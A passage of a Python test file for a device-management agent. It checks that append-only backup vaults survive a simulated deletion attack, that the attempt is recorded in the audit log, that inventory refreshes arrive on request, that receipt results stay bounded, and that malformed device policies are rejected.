    assert codes["delete-repo"] != "0" and codes["config"] != "0"
    assert "append_only = 1" in (env.vault_repo / "config").read_text()
    # Every segment written before the attack is still there, byte for byte.
    after = vault.segments(env.vault_repo)
    assert {n: after.get(n) for n in segments_before} == segments_before

    # The vault holder's offline procedure, on the vault host.
    removed = vault.recover(env.vault_repo, good, key_export=env.key_export, env=env.holder_env,
                            forensics=env.base / "dev1-attacked")
    assert removed and min(removed) == good + 1
    checked = backup.check(env.holder, verify_data=True)
    assert checked.ok, checked
    assert first in [a.name for a in backup.list_archives(env.holder)]
    restored = backup.restore_test(env.holder, first, originals)
    assert [(s.path, s.status) for s in restored] == [(p, "match") for p in sorted(originals)]

    # The attempt is in the audit log: the job's exact envelope and the device's signed receipt.
    entries = ok(env.owner.http.get(f"/tenants/{env.tenant}/audit/entries", params={"limit": 1000}))
    envelope = env.envelope(job)
    logged_jobs = [base64.b64decode(x["data"]) for x in entries if x["kind"] == "job.created"]
    assert any(trust.decode_payload(trust.decode_envelope(d).payload, trust.Job).id == job.id
               for d in logged_jobs)
    assert len(envelope) > 0
    receipts = [trust.decode_payload(trust.decode_envelope(base64.b64decode(x["data"])).payload,
                                     trust.Receipt) for x in entries if x["kind"] == "receipt"]
    [logged] = [r for r in receipts if r.job == job.id]
    assert logged.outcome == "ran" and logged.device == env.main.device_id

    # The agent backs up into the restored repository again.
    again = env.run(env.job(env.grant(["backup"]), Action(kind="backup-run")))
    assert (again["outcome"], again["exit_code"]) == ("ran", 0), again


# --- inventory ------------------------------------------------------------------------------------


def test_inventory_refresh_job_asks_for_a_report_now(env: Env) -> None:
    device = env.main.device_id
    path = f"/tenants/{env.tenant}/devices/{device}/inventory"
    deadline = time.time() + 60
    while env.owner.http.get(path).status_code != 200:  # the first report after connecting
        assert time.time() < deadline, "no inventory reported"
        time.sleep(0.5)
    asked = time.time()
    receipt = env.run(env.job(env.grant(["inventory"]), Action(kind="inventory-refresh")))
    assert (receipt["outcome"], receipt["exit_code"]) == ("ran", 0), receipt
    assert result(receipt) == {"schema": 1, "action": "inventory-refresh", "status": "requested"}
    # Collections are at least 30 s apart; the next one is this request's, long before the 300 s interval.
    deadline = time.time() + 45
    while ok(env.owner.http.get(path))["updated_at"] < asked:
        assert time.time() < deadline, "the requested inventory did not arrive"
        time.sleep(0.5)


# --- without a server ------------------------------------------------------------------------------------


def test_receipt_result_is_bounded_and_keeps_failures_first() -> None:
    from rampart.agent.actions import MAX_DOC_BYTES, bounded_json

    changes = [{"name": "aaa-failed", "action": "failed", "error": "E" * 3000}] + [
        {"name": f"pkg-{i:05d}", "action": "upgraded", "error": ""} for i in range(5000)]
    doc = {"schema": 1, "action": "os-update", "result": {"changes": changes, "output_tail": "x" * 16384}}
    data, cut = bounded_json(doc)
    assert cut and len(data) <= MAX_DOC_BYTES
    out = json.loads(data)
    assert out["truncated"] is True and out["action"] == "os-update"
    assert out["result"]["changes"][0]["name"] == "aaa-failed" and len(out["result"]["changes"]) > 100
    small, cut = bounded_json({"schema": 1, "action": "file"})
    assert not cut and json.loads(small) == {"schema": 1, "action": "file"}


def test_T13_a_damaged_device_policy_turns_package_and_backup_jobs_off() -> None:
    from rampart.agent.actions import ActionPolicy

    good = ActionPolicy.from_dict({"package_root": "/", "package_manager": "apt", "backup": {
        "repository": "ssh://vault/srv/borg/dev1", "paths": ["/srv"], "restore_samples": 2,
        "passphrase_file": "/var/lib/rampart-agent/borg-passphrase"}})
    assert good.error == "" and good.backup is not None and good.backup.restore_samples == 2
    assert ActionPolicy.from_dict({}) == ActionPolicy()  # an agent enrolled before these options
    for damaged in ({"package_manager": "yum"}, {"package_root": "../x"}, {"security_only_updates": "yes"},
                    {"backup": {"repository": "ssh://v/r::a", "passphrase_file": "/p", "paths": ["/srv"]}},
                    {"backup": {"repository": "/r", "passphrase_file": "/p", "paths": []}},
                    {"backup": {"repository": "/r", "passphrase_file": "/p", "paths": ["/srv"], "extra": 1}},
                    {"backup": "on"}):
        policy = ActionPolicy.from_dict(damaged)
        assert policy.error and policy.package_manager == "none" and policy.backup is None, damaged
